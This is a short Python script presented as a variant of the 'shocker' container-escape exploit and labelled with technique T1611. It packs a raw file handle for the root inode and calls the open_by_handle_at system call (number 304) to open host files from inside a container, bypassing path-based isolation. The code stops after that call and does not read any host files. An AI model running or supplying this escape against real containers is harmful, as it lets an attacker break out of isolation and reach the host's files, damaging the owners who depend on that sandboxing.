#!/usr/bin/env python3
# title: As the shocker exploit: files of the host are opened by their handles, not by paths
# technique: T1611
# needs: python3

import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0) + b"\0" * 32)
where = os.open("/", os.O_RDONLY)
libc.syscall(304, where, handle, 0)
